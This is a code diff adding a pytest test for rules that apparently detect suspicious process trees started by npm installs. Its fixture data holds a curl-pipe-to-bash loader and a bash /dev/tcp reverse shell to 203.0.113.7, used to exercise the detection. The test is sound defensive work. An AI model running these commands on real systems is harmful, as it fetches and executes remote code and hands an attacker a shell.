@@ -117,6 +117,34 @@ def test_rules_that_read_the_summary_find_the_same_trees(app: App) -> None:
             assert str(read[field]) == str(scored[field]), field
 
 
+@pytest.mark.parametrize(("later", "found"), [(-12_000, 0), (-1_200, 1)], ids=["rest", "goes on"])
+@pytest.mark.parametrize(
+    "rule", ["installer_process_tree_score", "installer_process_tree_score_high"]
+)
+def test_the_rest_of_a_tree_that_was_seen_whole_is_no_finding_of_its_own(
+    app: App, rule: str, later: int, found: int
+) -> None:
+    """Its root lies before the range; what it does in the last hour counts, by host and program."""
+    top = {"dest": "a", "process_name": "npm", "process": "npm install x"}
+    loader = "bash -c curl -fsSL http://203.0.113.7/a | bash"
+    rows = [
+        {"_time": NOW - 18_000, **top, "process_id": 7},
+        {"_time": NOW - 13_800, "dest": "a", "process_id": 8, "parent_process_id": 7,
+         "process_name": "bash", "process": loader, "parent_process_name": "npm",
+         "parent_process": "npm install x"},
+        {"_time": NOW + later, "dest": "a", "process_id": 9, "parent_process_id": 8,
+         "process_name": "bash", "process": "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
+         "parent_process_name": "bash", "parent_process": loader},
+    ]  # fmt: skip
+    written = app.run_saved(stanza(rule), {"Endpoint.Processes": rows}).rows
+    assert len(written) == found
+    assert all(row["tree_key"].startswith("a:") for row in written)
+    whole = [{**row, "_time": row["_time"] + 10_000} for row in rows]
+    written = app.run_saved(stanza(rule), {"Endpoint.Processes": whole}).rows
+    assert written
+    assert [row["tree_key"] for row in written] == [row["installer_tree_id"] for row in written]
+
+
 @pytest.mark.parametrize(
     ("search", "dataset", "field", "kind"),
     [
